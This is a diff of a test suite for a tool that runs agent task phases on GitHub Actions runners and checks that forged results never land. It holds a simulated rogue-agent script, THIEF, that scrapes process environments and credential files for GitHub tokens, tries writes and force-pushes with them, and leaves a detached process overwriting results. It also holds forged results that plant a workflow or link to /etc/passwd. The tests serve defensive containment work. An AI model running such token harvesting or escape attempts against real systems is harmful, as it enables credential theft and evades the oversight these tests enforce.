@@ -1,11 +1,12 @@
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { afterEach, expect, test } from "vitest";
+import { afterEach, expect, onTestFinished, test } from "vitest";
 import { parse } from "yaml";
+import { EXIT } from "../../src/commands/outcome.ts";
 import type { LoggedEvent } from "../../src/milestone/session/event.ts";
 import { LONG } from "../rig/long.ts";
-import { makeRig } from "../rig/repository.ts";
+import { type Clone, makeRig } from "../rig/repository.ts";
 import { type RunnersRig, runnersRig, WORKFLOW } from "./rig.ts";
 
 let rig: RunnersRig;
@@ -32,6 +33,31 @@ const calls = (): string =>
     .join("\n");
 const landings = () => rig.events().filter(({ event }) => event === "phase_completed");
 
+/** What an agent of Claude's kind prints at its end. */
+function answerOf(result: string, total_cost_usd: number): string {
+  const usage = { input_tokens: 10, output_tokens: 10 };
+  return JSON.stringify({
+    type: "result",
+    subtype: "success",
+    is_error: false,
+    result,
+    total_cost_usd,
+    usage,
+  });
+}
+
+/** An agent that writes down what it was told and what it may spend, and says that it spent three dollars. */
+const HOUSE = {
+  command: "bash",
+  args: [
+    "-c",
+    `cat > /dev/null; mkdir -p src "$MILESTONE_DELIVERABLES"; cp "$MILESTONE_FEEDBACK" "src/told-$MILESTONE_PHASE.txt"; echo "$0" > "$MILESTONE_DELIVERABLES/budget.txt"; echo '${answerOf("ok", 3)}'`,
+    "{budget_usd}",
+  ],
+  prompt: "stdin",
+  result: "claude-json",
+};
+
 test("the job that works holds no right to write, and the one that lands no agent and no key", () => {
   const { permissions, jobs } = parse(WORKFLOW);
   expect(permissions).toEqual({});
@@ -42,6 +68,7 @@ test("the job that works holds no right to write, and the one that lands no agen
   const scripts = jobs.take.steps.flatMap((step: { run?: string }) => step.run ?? []);
   expect(scripts).toEqual(['echo "milestone=${BRANCH#milestone/}" >> "$GITHUB_OUTPUT"']);
   expect(jobs.take.concurrency).toMatchObject({ queue: "max", "cancel-in-progress": false });
+  expect([jobs.work["cache-mode"], jobs.take["cache-mode"]]).toEqual(["read", "none"]);
 });
 
 test("machines that can only read do the phases, one that runs nothing lands them", {
@@ -49,18 +76,20 @@ test("machines that can only read do the phases, one that runs nothing lands the
 }, async () => {
   const note = JSON.stringify({ note: { to: "c", text: "the table moved" } });
   const tells = `${WRITE.slice("run: '".length, -1)}; printf "%s" "$NOTE" > "$MILESTONE_ASK"`;
-  const hears = `${WRITE.slice("run: '".length, -1)}; cp "$MILESTONE_FEEDBACK" "src/told-$MILESTONE_PHASE.txt"`;
   const tasks = [
     `  - { id: a, phases: [execute], run: '${tells}', env: { NOTE: '${note}' } }\n`,
     "  - { id: b, phases: [execute] }\n",
-    `  - { id: c, phases: [task, execute], needs: [a, b], run: '${hears}' }\n`,
+    "  - { id: c, agent: house, retries: 0, phases: [task, execute], needs: [a, b] }\n",
   ];
-  rig = await runnersRig(plan(tasks.join("")), { runners: 4 });
+  rig = await runnersRig(`${plan(tasks.join(""))}budget: { cost_usd: 10 }\n`, {
+    runners: 4,
+    files: { ".milestones/config.yaml": `agents: ${JSON.stringify({ house: HOUSE })}\n` },
+  });
   // The answer to the second run that is handed out is lost on its way; its title shows that it was started.
   rig.github.fail({ method: "POST", path: /dispatches/, after: 2, status: "timeout-after-apply", holdMs: 1 });
   await rig.dispatch({ command: "execute" });
   expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
-  for (const task of ["a", "b", "c"]) expect(rig.read(`src/${task}.txt`)).toBe(task);
+  for (const task of ["a", "b"]) expect(rig.read(`src/${task}.txt`)).toBe(task);
   expect(rig.github.violations).toEqual([]);
   for (const phase of ["task", "execute"])
     expect(rig.read(`src/told-${phase}.txt`)).toMatch(/of the agent of a\/execute[\s\S]*the table moved/);
@@ -72,6 +101,9 @@ test("machines that can only read do the phases, one that runs nothing lands the
       .map(({ task_id, phase }) => `${task_id}/${phase}`)
       .sort(),
   ).toEqual(["a/execute", "b/execute", "c/execute", "c/task"]);
+  // They share the dollars of their ticket.
+  const budget = (phase: string) => rig.read(`.milestones/deliverables/m/c/${phase}/budget.txt`);
+  expect([budget("task"), budget("execute")], said()).toEqual(["10.0000", "7.0000"]);
   const { jobs } = rig;
   expect(jobs.filter(({ job }) => job === "work")).toHaveLength(3);
   // A token has 1,000 requests an hour: each run and each landing may cost six.
@@ -92,225 +124,72 @@ test("machines that can only read do the phases, one that runs nothing lands the
   expect(rig.git("rev-parse", "refs/heads/milestone/m")).toBe(before);
 });
 
-test("tests and checkpoints run on machines of their own, and what they say decides", {
+/** What is told of tests and of the phases that they are about. */
+function toldIn(events: readonly LoggedEvent[]): string[] {
+  return events.flatMap(event => {
+    const { task_id } = event;
+    switch (event.event) {
+      case "check_sent":
+        return [event.data.check];
+      case "tests_run":
+        return [`${task_id ?? "all"} ${event.data.ok ? "green" : "red"}`];
+      case "quality_gate_passed":
+        return ["half passed"];
+      case "phase_completed":
+        return [`${task_id} done`];
+      case "phase_failed":
+        return [`${task_id} failed`];
+      default:
+        return [];
+    }
+  });
+}
+
+test("tests and checkpoints on machines of their own decide what they decide on one", {
   timeout: 300_000,
 }, async () => {
+  const write = 'mkdir -p src && echo "$MILESTONE_ATTEMPT" > "src/$MILESTONE_TASK.txt"';
   // The first attempt at b breaks the tests.
-  const green = 'test "$(cat src/b.txt 2>/dev/null)" != 1';
-  rig = await runnersRig(
-    `id: m
+  const text = `id: m
 title: Tested
 runners: { max: 2, labels: [ubuntu-latest] }
-test_command: '${green}'
+test_command: 'test "$(cat src/b.txt 2>/dev/null)" != 1'
 quality_gates: [{ name: half, at: 50, run: ["test -f src/a.txt"] }]
-executor: { run: 'mkdir -p src && echo "$MILESTONE_ATTEMPT" > "src/$MILESTONE_TASK.txt"', retries: 1, backoff: 1s }
+executor: { run: '${write}', retries: 1, backoff: 0s }
 tasks:
   - { id: a, phases: [execute] }
   - { id: b, phases: [execute], needs: [a] }
-`,
-    { runners: 2 },
-  );
+`;
+  rig = await runnersRig(text, { runners: 2 });
   await rig.dispatch({ command: "execute" });
   expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
-  const told = rig.events().flatMap(({ event, task_id, data }) => {
-    if (event === "check_sent") return [(data as { check: string }).check];
-    if (event === "tests_run")
-      return [`${task_id ?? "all"} ${(data as { ok: boolean }).ok ? "green" : "red"}`];
-    return event === "phase_completed" || event.startsWith("quality_gate")
-      ? [`${event} ${task_id ?? ""}`]
-      : [];
-  });
-  expect(told, said()).toEqual([
-    "tests/baseline",
-    "all green",
-    "a green",
-    "phase_completed a",
-    "checkpoint/half",
-    "quality_gate_passed ",
-    "b red",
-    "b green",
-    "phase_completed b",
-    "tests/final",
-    "all green",
+  const apart = toldIn(rig.events());
+  expect(apart, said()).toEqual([
+    ...["tests/baseline", "all green", "a green", "a done", "checkpoint/half", "half passed"],
+    ...["b red", "b failed", "b green", "b done", "tests/final", "all green"],
   ]);
-  expect(rig.read("src/b.txt")).toBe("2");
   // No command of the plan ran beside the token that can write.
   expect(rig.jobs.filter(({ job }) => job === "work")).toHaveLength(6);
   expect(rig.github.violations).toEqual([]);
-});
-
-test("a pause ends the jobs that are at work, and what they leave undone costs no retry", {
-  timeout: 300_000,
-}, async () => {
-  const run = 'test "$MILESTONE_ATTEMPT" != 1 || sleep 3000; mkdir -p src && echo done > src/a.txt';
-  rig = await runnersRig(
-    `id: m
-title: Paused
-runners: { max: 2, labels: [ubuntu-latest] }
-executor: { run: '${run}', retries: 0 }
-tasks: [{ id: a, phases: [execute] }]
-`,
-    // A warm process is not told of a cancellation.
-    { runners: 2, warm: false },
-  );
-  const give = (command: string) =>
-    rig.github.as("mona").request("POST /actions/workflows/milestone.yml/dispatches", {
-      ref: "main",
-      inputs: { milestone: "m", command },
-    });
-  const runs = () => [...rig.github.repository.runs.values()];
-  await give("execute");
-  const work = () => runs().find(({ inputs, status }) => inputs.ticket && status === "in_progress");
-  await expect.poll(() => work() && runs()[0]!.status === "completed", { timeout: 120_000 }).toBe(true);
-  const { id } = work()!;
-  await give("pause");
-  await rig.settled();
-  expect(rig.github.repository.runs.get(id)!.conclusion, said()).toBe("cancelled");
-  expect(rig.events().at(-1)!.event, said()).not.toBe("phase_failed");
-  await rig.dispatch({ command: "resume" });
-  expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
-  const kinds = rig.events().map(({ event }) => event);
-  expect(kinds).toContain("phase_interrupted");
-  expect(kinds).not.toContain("phase_failed");
-  expect(rig.github.violations).toEqual([]);
-});
-
-const NO_DIGEST = WORKFLOW.replace(/^ *digest: .*needs.*\n/m, "");
-
-/** What becomes of the first result on its way; the second one arrives as it was made. */
-const ATTACKS: [string, RegExp, (folder: string, workspace: string) => void][] = [
-  ["lost", /without leaving a result/, folder => rmSync(folder, { recursive: true })],
-  [
-    "swapped for another ticket's",
-    /for another ticket/,
-    folder => edit(folder, r => (r.ticket.nonce = "0".repeat(32))),
-  ],
-  ["about another milestone", /for another ticket/, folder => edit(folder, r => (r.milestone = "other"))],
-  ["no result at all", /result\.json/, folder => writeFileSync(join(folder, "result.json"), "{}")],
-  [
-    "with a workflow in it",
-    /workflows and actions/,
-    (folder, workspace) => forge(folder, workspace, ".github/workflows/evil.yml"),
-  ],
-  [
-    "with the engine's own files in it",
-    /only its own deliverables/,
-    (folder, workspace) => forge(folder, workspace, ".milestones/logs/execution-m.jsonl"),
-  ],
-];
-
-function edit(
-  folder: string,
-  change: (result: { milestone: string; ticket: { nonce: string }; parts: { commit: string }[] }) => void,
-): void {
-  const file = join(folder, "result.json");
-  const result = JSON.parse(readFileSync(file, "utf8"));
-  change(result);
-  writeFileSync(file, JSON.stringify(result));
-}
-
-/** The work's commit with one more file, packed as the job packs it. */
-function forge(folder: string, workspace: string, path: string): void {
-  const at = join(workspace, "..", "forged");
-  const git = (...args: string[]): string =>
-    execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@x", ...args], {
-      cwd: at,
-      encoding: "utf8",
-    }).trim();
-  mkdirSync(at);
-  execFileSync("git", ["clone", "-q", "--no-checkout", rig.github.repository.git.path, at]);
-  const patch = join(folder, "patch");
-  const base = JSON.parse(readFileSync(join(folder, "result.json"), "utf8")).ticket.base as string;
-  git("fetch", "-q", patch, "refs/heads/milestone-work:refs/heads/milestone-work");
-  git("checkout", "-q", "-f", "milestone-work");
-  mkdirSync(join(at, path, ".."), { recursive: true });
-  writeFileSync(join(at, path), "on: push\n");
-  git("add", "-A", "-f");
-  git("commit", "-q", "--amend", "--no-edit");
-  rmSync(patch);
-  git("bundle", "create", "-q", patch, "milestone-work", `^${base}`);
-  edit(folder, result => (result.parts[0]!.commit = git("rev-parse", "HEAD")));
-}
-
-/** Each takes as long as a milestone on four machines: three of them in every run, all of them at night (LONG=1). */
-const PLAYED = LONG ? ATTACKS : ATTACKS.filter((_, at) => [0, 1, 4].includes(at));
-
-test.each(PLAYED)(
-  "a result that is %s does not land, and its phase is done once more",
-  { timeout: 200_000 },
-  async (name, words, attack) => {
-    let attacked = 0;
-    rig = await runnersRig(ONE, {
-      runners: 2,
-      files: { ".github/workflows/milestone.yml": name.startsWith("with") ? NO_DIGEST : WORKFLOW },
-      before: (job, { workspace, temp }) => {
-        const folder = join(temp, "result");
-        if (job !== "take" || attacked > 0 || !existsSync(folder)) return;
-        attacked += 1;
-        attack(folder, workspace);
-      },
-    });
-    await rig.dispatch({ command: "execute" });
-    expect(attacked).toBe(1);
-    const failed = rig.events().filter(({ event }) => event === "phase_failed");
-    expect(
-      failed.map(({ data }) => (data as { message: string }).message),
-      said(),
-    ).toEqual([expect.stringMatching(words)]);
-    expect(landings(), said()).toHaveLength(1);
-    expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
-    expect(rig.read(".github/workflows/evil.yml")).toBeNull();
-  },
-);
-
-test("the phases that one machine does share the dollars of their ticket", {
-  timeout: 200_000,
-}, async () => {
-  const answer = {
-    type: "result",
-    subtype: "success",
-    is_error: false,
-    result: "ok",
-    total_cost_usd: 3,
-    usage: { input_tokens: 10, output_tokens: 10 },
-  };
-  const write = 'mkdir -p "$MILESTONE_DELIVERABLES"; echo "$0" > "$MILESTONE_DELIVERABLES/budget.txt"';
-  const command = `cat > /dev/null; ${write}; echo '${JSON.stringify(answer)}'`;
-  const house = {
-    command: "bash",
-    args: ["-c", command, "{budget_usd}"],
-    prompt: "stdin",
-    result: "claude-json",
-  };
-  rig = await runnersRig(
-    `id: m
-title: Tasks
-runners: { max: 2, labels: [ubuntu-latest] }
-budget: { cost_usd: 10 }
-tasks:
-  - { id: a, agent: house, retries: 0, phases: [task, execute] }
-`,
-    { runners: 2, files: { ".milestones/config.yaml": `agents: ${JSON.stringify({ house })}\n` } },
-  );
-  await rig.dispatch({ command: "execute" });
-  const budget = (phase: string) => rig.read(`.milestones/deliverables/m/a/${phase}/budget.txt`);
-  expect([budget("task"), budget("execute")], said()).toEqual(["10.0000", "7.0000"]);
-  expect(rig.jobs.filter(({ job }) => job === "work")).toHaveLength(1);
+  const place = makeRig([], {}, { warm: true });
+  onTestFinished(() => place.close());
+  place.main.write({ ".milestones/active/m.yaml": text });
+  place.main.commit("the same plan");
+  const ended = await place.main.milestone(["execute", "m"]);
+  expect(ended.code, ended.stderr).toBe(0);
+  // One machine knows that nothing came after the last tests: it does not repeat them.
+  const sent = ["tests/baseline", "checkpoint/half"];
+  expect(apart.slice(0, -2).filter(each => !sent.includes(each))).toEqual(toldIn(place.events("m")));
+  const product = (listing: string): string[] => listing.split("\n").filter(line => line.includes("\tsrc/"));
+  expect(product(rig.product())).toEqual(product(place.main.git("ls-tree", "-r", "milestone/m")));
 });
 
 test("what reviewers and their accounts said and what criteria's commands showed is told as by one machine", {
   timeout: 200_000,
 }, async () => {
   const finding = { line: 1, lens: "security", severity: "high", message: "a key" };
-  const answer = (text: string, more: object): string =>
-    JSON.stringify({
-      type: "result",
-      subtype: "success",
-      is_error: false,
-      result: JSON.stringify({ findings: [{ ...finding, file: "a.txt", quote: text, ...more }] }),
-      total_cost_usd: 0.5,
-      usage: { input_tokens: 10, output_tokens: 10 },
-    });
+  const answer = (quote: string, more: object): string =>
+    answerOf(JSON.stringify({ findings: [{ ...finding, file: "a.txt", quote, ...more }] }), 0.5);
   const command = `if grep -q "^+key=secret"; then echo '${answer("key=secret", {})}'; else echo '${answer("safe", { severity: "low" })}'; fi`;
   const reader = { command: "bash", args: ["-c", command], prompt: "stdin", result: "claude-json" };
   const limit = { type: "result", subtype: "success", is_error: true, total_cost_usd: 0.25 };
@@ -378,23 +257,314 @@ tasks:
   }
 });
 
-test("a result whose bytes are not those that its job told of does not land", {
-  timeout: 200_000,
+test("a pause ends the jobs that are at work, and what they leave undone costs no retry", {
+  timeout: 300_000,
 }, async () => {
-  let attacked = 0;
+  const run = 'test "$MILESTONE_ATTEMPT" != 1 || sleep 3000; mkdir -p src && echo done > src/a.txt';
+  rig = await runnersRig(
+    `id: m
+title: Paused
+runners: { max: 2, labels: [ubuntu-latest] }
+executor: { run: '${run}', retries: 0 }
+tasks: [{ id: a, phases: [execute] }]
+`,
+    // A warm process is not told of a cancellation.
+    { runners: 2, warm: false },
+  );
+  const give = (command: string) =>
+    rig.github.as("mona").request("POST /actions/workflows/milestone.yml/dispatches", {
+      ref: "main",
+      inputs: { milestone: "m", command },
+    });
+  const runs = () => [...rig.github.repository.runs.values()];
+  await give("execute");
+  const work = () => runs().find(({ inputs, status }) => inputs.ticket && status === "in_progress");
+  await expect.poll(() => work() && runs()[0]!.status === "completed", { timeout: 120_000 }).toBe(true);
+  const { id } = work()!;
+  await give("pause");
+  await rig.settled();
+  expect(rig.github.repository.runs.get(id)!.conclusion, said()).toBe("cancelled");
+  expect(rig.events().at(-1)!.event, said()).not.toBe("phase_failed");
+  await rig.dispatch({ command: "resume" });
+  expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
+  const kinds = rig.events().map(({ event }) => event);
+  expect(kinds).toContain("phase_interrupted");
+  expect(kinds).not.toContain("phase_failed");
+  expect(rig.github.violations).toEqual([]);
+});
+
+function edit(
+  folder: string,
+  change: (result: { milestone: string; ticket: { nonce: string }; parts: { commit: string }[] }) => void,
+): void {
+  const file = join(folder, "result.json");
+  const result = JSON.parse(readFileSync(file, "utf8"));
+  change(result);
+  writeFileSync(file, JSON.stringify(result));
+}
+
+/** The work's commit with one more file, packed as the job packs it. */
+function forge(
+  folder: string,
+  { path, link, isNamed = true }: { path: string; link?: string; isNamed?: boolean },
+): void {
+  const at = `${folder}.forged`;
+  const git = (...args: string[]): string =>
+    execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@x", ...args], {
+      cwd: at,
+      encoding: "utf8",
+    }).trim();
+  mkdirSync(at);
+  execFileSync("git", ["clone", "-q", "--no-checkout", rig.github.repository.git.path, at]);
+  const patch = join(folder, "patch");
+  const base = JSON.parse(readFileSync(join(folder, "result.json"), "utf8")).ticket.base as string;
+  git("fetch", "-q", patch, "refs/heads/milestone-work:refs/heads/milestone-work");
+  git("checkout", "-q", "-f", "milestone-work");
+  mkdirSync(join(at, path, ".."), { recursive: true });
+  if (link) symlinkSync(link, join(at, path));
+  else writeFileSync(join(at, path), "on: push\n");
+  git("add", "-A", "-f");
+  git("commit", "-q", "--amend", "--no-edit");
+  rmSync(patch);
+  git("bundle", "create", "-q", patch, "milestone-work", `^${base}`);
+  if (isNamed) edit(folder, result => (result.parts[0]!.commit = git("rev-parse", "HEAD")));
+}
+
+/** A result on its way, and what a command line says that takes it; it is refused, or lands as a failed attempt. */
+const ATTACKS: { name: string; words: RegExp; lands?: true; attack: (folder: string) => void }[] = [
+  {
+    name: "another ticket's",
+    words: /for another ticket/,
+    attack: folder => edit(folder, r => (r.ticket.nonce = "0".repeat(32))),
+  },
+  {
+    name: "another milestone's",
+    words: /for another ticket/,
+    attack: folder => edit(folder, r => (r.milestone = "other")),
+  },
+  {
+    name: "cut short",
+    words: /result\.json: version: /,
+    attack: folder => writeFileSync(join(folder, "result.json"), "{}"),
+  },
+  { name: "gone", words: /it is not there/, attack: folder => rmSync(join(folder, "result.json")) },
+  {
+    name: "without its work",
+    words: /patch: /,
+    attack: folder => rmSync(join(folder, "patch")),
+  },
+  {
+    name: "a commit that it does not name",
+    words: /other commits/,
+    attack: folder => forge(folder, { path: "src/a.txt", isNamed: false }),
+  },
+  {
+    name: "a workflow",
+    words: /workflows and actions/,
+    lands: true,
+    attack: folder => forge(folder, { path: ".github/workflows/evil.yml" }),
+  },
+  {
+    name: "the engine's own log",
+    words: /only its own deliverables/,
+    lands: true,
+    attack: folder => forge(folder, { path: ".milestones/logs/execution-m.jsonl" }),
+  },
+  {
+    name: "a link out of the repository",
+    words: /link that leads out/,
+    lands: true,
+    attack: folder => forge(folder, { path: "src/link", link: "/etc/passwd" }),
+  },
+];
+
+test("a result that is lost is made again, and one that is not what its job left never lands", {
+  timeout: 300_000,
+}, async () => {
+  const place = makeRig([], {}, { warm: true });
+  onTestFinished(() => place.close());
+  const kept = join(place.folder, "kept");
+  let brought = 0;
   rig = await runnersRig(ONE, {
     runners: 2,
-    before: (job, { workspace, temp }) => {
+    before: (job, { temp }) => {
       const folder = join(temp, "result");
-      if (job !== "take" || attacked > 0 || !existsSync(folder)) return;
-      attacked += 1;
-      forge(folder, workspace, "src/more.txt");
+      if (job !== "take" || !existsSync(folder)) return;
+      brought += 1;
+      if (brought === 1) return rmSync(folder, { recursive: true });
+      cpSync(folder, kept, { recursive: true });
+      rig.git("clone", "-q", "--mirror", ".", join(place.folder, "saved.git"));
     },
   });
   await rig.dispatch({ command: "execute" });
-  expect(said()).toContain("another digest");
+  expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
+  expect(messages(rig.events()), said()).toEqual([expect.stringMatching(/without leaving a result/)]);
   expect(landings()).toHaveLength(1);
-  expect(rig.read("src/more.txt")).toBeNull();
+
+  // Where the second result was on its way, each attack on a copy of it, brought by hand.
+  const ticket = JSON.stringify(JSON.parse(readFileSync(join(kept, "result.json"), "utf8")).ticket);
+  const digest = rig.jobs.filter(({ job }) => job === "work").at(-1)!.jobOutputs.digest!;
+  const back = (): void =>
+    void place.git("fetch", "-q", join(place.folder, "saved.git"), "+refs/*:refs/*", "--prune");
+  const take = (from: string, result: string, ...more: string[]) =>
+    clones.get(from)!.milestone(["take", "m", result, `--ticket=${ticket}`, ...more]);
+  const clones = new Map<string, Clone>();
+  const fresh = (name: string): string => {
+    back();
+    clones.set(name, place.clone(name));
+    return name;
+  };
+  const still = fresh("still");
+  const before = place.git("rev-parse", "refs/heads/milestone/m");
+  for (const [at, { name, words, lands, attack }] of ATTACKS.entries()) {
+    const folder = join(place.folder, `result-${at}`);
+    cpSync(kept, folder, { recursive: true });
+    attack(folder);
+    const ended = await take(lands ? fresh(`clone-${at}`) : still, folder);
+    const after = place.git("rev-parse", "refs/heads/milestone/m");
+    if (lands) {
+      const said = messages(place.events("m"));
+      expect(said.at(-1), `${name}: ${ended.stdout}${ended.stderr}`).toMatch(words);
+      expect(place.events("m").filter(({ event }) => event === "phase_completed")).toEqual([]);
+    } else {
+      expect([ended.code, after], `${name}: ${ended.stdout}${ended.stderr}`).toEqual([2, before]);
+      expect(ended.stderr, name).toMatch(words);
+    }
+  }
+  // Its bytes are not those that its job told of.
+  const changed = join(place.folder, "changed");
+  cpSync(kept, changed, { recursive: true });
+  forge(changed, { path: "src/more.txt" });
+  fresh("last");
+  const refused = await take("last", changed, `--digest=${digest}`);
+  expect([refused.code, refused.stderr]).toEqual([2, expect.stringMatching(/another digest/)]);
+  // As its job left it, in the zip file that GitHub serves; and never twice.
+  const archive = join(place.folder, "result.zip");
+  writeFileSync(archive, [...rig.github.repository.artifacts.values()].at(-1)!.archive);
+  const taken = await take("last", archive, `--digest=${digest}`);
+  expect([taken.code, taken.stdout], taken.stderr).toEqual([EXIT.paused, expect.stringContaining("1/1")]);
+  expect(place.read("milestone/m", "src/a.txt")).toBe("a");
+  const again = await take("last", kept);
+  expect(again.stdout, again.stderr).toContain("has ended already");
+  expect(place.events("m").filter(({ event }) => event === "phase_completed")).toHaveLength(1);
+});
+
+/** An agent that looks for keys wherever it can read, and tries to write with each of them and with none. */
+const THIEF = `import { spawn, spawnSync } from "node:child_process";
+import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+const texts = Object.entries(process.env).map(each => each.join("="));
+const look = file => { try { texts.push(readFileSync(file, "latin1")); } catch {} };
+for (const pid of readdirSync("/proc").filter(name => /^[0-9]+$/.test(name)))
+  for (const file of ["environ", "cmdline"]) look(join("/proc", pid, file));
+const git = (...args) => spawnSync("git", args, { encoding: "utf8", env: { ...process.env, GIT_TERMINAL_PROMPT: "0" } });
+texts.push(git("config", "--list", "--show-origin").stdout ?? "");
+for (const name of [".git-credentials", ".netrc", ".npmrc", ".config/gh/hosts.yml"]) look(join(process.env.HOME ?? "/", name));
+const temp = process.env.RUNNER_TEMP;
+const below = folder => { try { return readdirSync(folder, { recursive: true }).map(name => join(folder, name)); } catch { return []; } };
+for (const file of temp ? below(temp) : []) look(file);
+const keys = [...new Set(texts.join("\\n").match(/gh[a-z]_[\\w.-]{30,}|runtime-token-[\\w-]+/g) ?? [])];
+const [server, repo] = readFileSync("server.txt", "utf8").split(" ");
+const api = server + "/api/v3/repos/" + repo;
+const calls = [
+  ["POST", api + "/check-runs", { name: "evil", head_sha: "0".repeat(40) }],
+  ["POST", api + "/git/refs", { ref: "refs/heads/evil", sha: "0".repeat(40) }],
+  ["POST", api + "/issues", { title: "evil" }],
+  ["POST", api + "/actions/workflows/milestone.yml/dispatches", { ref: "main", inputs: { milestone: "m", command: "cancel" } }],
+  ["POST", server + "/_results/twirp/github.actions.results.api.v1.ArtifactService/CreateArtifact", { name: "result" }],
+  ["POST", server + "/_results/twirp/github.actions.results.api.v1.CacheService/CreateCacheEntry", { key: "evil" }],
+];
+const answers = [];
+for (const key of ["", ...keys])
+  for (const [method, url, body] of calls) {
+    const headers = { "content-type": "application/json", ...(key ? { authorization: "Bearer " + key } : {}) };
+    const answer = await fetch(url, { method, headers, body: JSON.stringify(body) }).catch(error => ({ status: 0, error }));
+    answers.push(url.slice(server.length) + " " + answer.status);
+  }
+for (const ref of ["evil", "main", "milestone/m"])
+  answers.push("push of " + ref + " " + git("push", "--force", server + "/" + repo + ".git", "HEAD:refs/heads/" + ref).status);
+// What it leaves behind writes over the result until its machine ends.
+if (temp) {
+  mkdirSync(join(temp, "result"), { recursive: true });
+  const write = 'while sleep 0.05; do echo "{}" > "$0/result/result.json"; done';
+  spawn("sh", ["-c", write, temp], { detached: true, stdio: "ignore" }).unref();
+}
+mkdirSync("src", { recursive: true });
+writeFileSync("src/tried.json", JSON.stringify({ keys, answers, temp: temp !== undefined }));
+`;
+
+test("an agent that tries to write finds no key, and nothing of what it tries is there", {
+  timeout: 200_000,
+}, async () => {
+  rig = await runnersRig(
+    `id: m
+title: A thief
+runners: { max: 1, labels: [ubuntu-latest] }
+tasks: [{ id: a, phases: [execute], run: node thief.mjs, retries: 0 }]
+`,
+    // What a process was started with is what others read of it: a warm one was started with nothing.
+    { runners: 1, files: { "thief.mjs": THIEF }, cold: job => job === "work" },
+  );
+  const { owner, repo, url } = rig.github;
+  await rig.github.as("mona").push({ "server.txt": `${url} ${owner}/${repo}` }, "main", { message: "where" });
+  await rig.dispatch({ command: "execute" });
+  expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
+  const { keys, answers } = JSON.parse(rig.read("src/tried.json")!);
+  const { repository, world, violations } = rig.github;
+  const own = keys.filter((key: string) => world.tokens.has(key) || key.startsWith("runtime-token"));
+  expect(own).toEqual([]);
+  expect(answers.length).toBeGreaterThanOrEqual(9);
+  // Without a key: not known, not allowed, or git's own failure.
+  for (const answer of answers) expect(answer).toMatch(/ (401|403|404|1|128)$/);
+  expect(rig.git("for-each-ref", "--format=%(refname)", "refs/heads").split("\n")).toEqual([
+    "refs/heads/main",
+    "refs/heads/milestone/m",
+  ]);
+  expect([repository.runs.size, repository.artifacts.size]).toEqual([2, 1]);
+  const written = rig.github.calls.filter(
+    ({ actor, method, status }) => actor === "anonymous" && method !== "GET" && status < 400,
+  );
+  expect(written).toEqual([]);
+  expect(violations).toEqual([]);
+});
+
+const messages = (events: readonly LoggedEvent[]): string[] =>
+  events.flatMap(event => (event.event === "phase_failed" ? [event.data.message] : []));
+
+test("what a cancelled landing should have landed is found by the next one, unless it has expired or was changed", {
+  timeout: 300_000,
+}, async () => {
+  const ids = ["a", "b", "c", "d"];
+  let last: (() => void) | undefined;
+  const others = new Promise<void>(resolve => (last = resolve));
+  const cancelled = new Set<string>();
+  rig = await runnersRig(plan(ids.map(id => `  - { id: ${id}, phases: [execute] }\n`).join(""), 4), {
+    runners: 4,
+    async onJob(job, { id, inputs }) {
+      const { task, attempt } = inputs.ticket ? JSON.parse(inputs.ticket) : { task: null, attempt: 0 };
+      if (attempt !== 1) return;
+      // The landing of d comes after those of all the others, which are cancelled.
+      if (job === "work") return task === "d" ? others : undefined;
+      if (task === "d") return;
+      const artifact = [...rig.github.repository.artifacts.values()].find(each => each.run === id)!;
+      if (task === "b") artifact.expired = true;
+      if (task === "c") artifact.archive = Buffer.from(artifact.archive).fill(0, 40, 60);
+      await rig.github.as("mona").request(`POST /actions/runs/${id}/cancel`);
+      cancelled.add(task);
+      if (cancelled.size === 3) last!();
+    },
+  });
+  await rig.dispatch({ command: "execute" });
+  expect(rig.jobs.at(-1)!.outputs.status, said()).toBe("completed");
+  const failed = rig.events().filter(({ event }) => event === "phase_failed");
+  const told = failed.map(({ task_id }, at) => `${task_id}: ${messages(rig.events())[at]}`).sort();
+  expect(told, said()).toEqual([
+    expect.stringMatching(/^b: .*has expired/),
+    expect.stringMatching(/^c: .*another digest/),
+  ]);
+  const landed = landings().map(({ task_id, data }) => `${task_id} ${(data as { attempt: number }).attempt}`);
+  expect(landed.sort()).toEqual(["a 1", "b 2", "c 2", "d 1"]);
+  expect(rig.github.violations).toEqual([]);
 });
 
 test("milestone init --runners writes the workflow of two jobs, and a config that says so", async () => {
@@ -417,13 +587,13 @@ test("milestone init --runners writes the workflow of two jobs, and a config tha
 });
 
 const NEEDS = [[], [], [], [0], [0, 1], [2], [3], [4, 5], [], [6, 7], [8], [9, 10]];
-const TASKS = LONG ? 12 : 4;
 
-test(`${TASKS} tasks over four runners leave the tree that one machine leaves`, {
-  timeout: 500_000,
-}, async () => {
-  const needs = NEEDS.slice(0, TASKS);
-  const tasks = needs.map(
+/** The same is shown by fewer tasks above. */
+if (LONG) test("twelve tasks over four runners leave the tree that one machine leaves", overFour, 500_000);
+
+async function overFour(): Promise<void> {
+  const TASKS = NEEDS.length;
+  const tasks = NEEDS.map(
     (of, at) => `  - { id: t${at}, phases: [execute], needs: [${of.map(each => `t${each}`).join(", ")}] }\n`,
   );
   const text = plan(tasks.join(""), 4);
@@ -458,4 +628,4 @@ test(`${TASKS} tasks over four runners leave the tree that one machine leaves`, 
       kinds.filter(kind => kind === each),
       each,
     ).toHaveLength(TASKS);
-});
+}
